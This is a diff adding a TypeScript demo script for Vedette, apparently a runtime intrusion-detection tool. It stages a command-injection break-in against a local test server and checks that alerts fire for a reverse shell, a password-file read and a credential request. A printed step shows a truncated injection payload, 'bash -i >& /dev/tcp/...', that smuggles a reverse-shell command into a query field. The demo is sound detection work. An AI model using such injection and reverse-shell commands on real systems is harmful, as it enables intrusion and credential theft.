@@ -1,0 +1,95 @@
+// SPDX-License-Identifier: Apache-2.0
+//
+// `npm run demo`: a small, real break-in under Vedette, and the alerts it raised. A web server with a command injection runs under
+// `vedette run`; an attacker makes it call back with a shell, reads the password file and asks for the task's credentials. Ends with
+// status 0 only if each of the three was noticed. Runs inside a network namespace that .ci/demo makes.
+import { spawn } from "node:child_process";
+import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { type AddressInfo, createServer } from "node:net";
+import { tmpdir } from "node:os";
+import { join, resolve } from "node:path";
+import { setTimeout } from "node:timers/promises";
+import { inject, listenForShell, request, serveCredentials, THEFTS, type } from "./attacker.js";
+import { type Alert, explain, MUST_SEE } from "./explain.js";
+
+const ROOT = resolve(import.meta.dirname, "../..");
+const folder = mkdtempSync(join(tmpdir(), "vedette-demo-"));
+const alertsPath = join(folder, "alerts.jsonl");
+process.on("exit", () => rmSync(folder, { recursive: true, force: true }));
+
+const port = await freePort();
+const victim = ["/usr/bin/python3", join(ROOT, "test/demo/victim.py"), String(port)];
+const vedette = [join(ROOT, "build/js/host/main.js"), "run", "--alerts", alertsPath, "--", ...victim];
+
+say("1. A web server is started under Vedette:", `vedette run -- python3 victim.py ${port}`);
+const watched = spawn(process.execPath, vedette, {
+  stdio: ["ignore", "inherit", "inherit"],
+  env: { ...process.env, HOME: folder },
+});
+const ended = new Promise<number>((done) => watched.on("exit", (status) => done(status ?? 1)));
+await untilAnswering(`http://127.0.0.1:${port}/?host=localhost`);
+
+say(
+  "2. An attacker finds that the server gives what it is asked for to a shell, and has it call back:",
+  "GET /?host=localhost; bash -i >& /dev/tcp/...",
+);
+const closeCredentials = await serveCredentials();
+const listener = await listenForShell();
+const injected = inject(port, listener.port);
+const shell = await Promise.race([listener.shell, fail(20_000, "the reverse shell did not call back")]);
+
+say("3. The attacker has a shell on the server, and types:");
+for (const { say: what, command } of THEFTS) {
+  const printed = await type(shell, command);
+  console.log(`     ${command}   (${what}${printed.includes("made-up") ? ": it got them" : ""})`);
+}
+shell.end("exit\n");
+await injected;
+listener.close();
+closeCredentials();
+watched.kill("SIGTERM");
+await ended;
+
+const alerts = readAlerts();
+say(`4. What Vedette saw, ${alerts.length} alert${alerts.length === 1 ? "" : "s"}:`);
+for (const alert of alerts) console.log(explain(alert));
+const unseen = MUST_SEE.filter((rule) => !alerts.some((alert) => alert.rule === rule));
+if (unseen.length > 0) {
+  console.log(`\nThe demo failed: no alert came for ${unseen.join(", ")}.`);
+  process.exit(1);
+}
+console.log("\nEvery step of the break-in was noticed, from outside the kernel, while the server ran on as before.");
+console.log("Next: `npm test`, or watch a program of your own: `node build/js/host/main.js trace -- ls`.");
+
+function readAlerts(): Alert[] {
+  if (!existsSync(alertsPath)) return [];
+  const lines = readFileSync(alertsPath, "utf8").split("\n");
+  return lines.filter((line) => line !== "").map((line) => JSON.parse(line) as Alert);
+}
+
+function say(step: string, detail?: string): void {
+  console.log(`\n${step}${detail === undefined ? "" : `\n     ${detail}`}`);
+}
+
+async function untilAnswering(url: string): Promise<void> {
+  for (let tries = 0; tries < 300; tries++) {
+    if (await request(url).catch(() => 0)) return;
+    if (watched.exitCode !== null) throw new Error(`the server ended with status ${watched.exitCode}`);
+    await setTimeout(100);
+  }
+  throw new Error("the server does not answer");
+}
+
+async function fail(ms: number, text: string): Promise<never> {
+  await setTimeout(ms, undefined, { ref: false });
+  throw new Error(text);
+}
+
+function freePort(): Promise<number> {
+  return new Promise((done) => {
+    const server = createServer().listen(0, "127.0.0.1", () => {
+      const { port: free } = server.address() as AddressInfo;
+      server.close(() => done(free));
+    });
+  });
+}
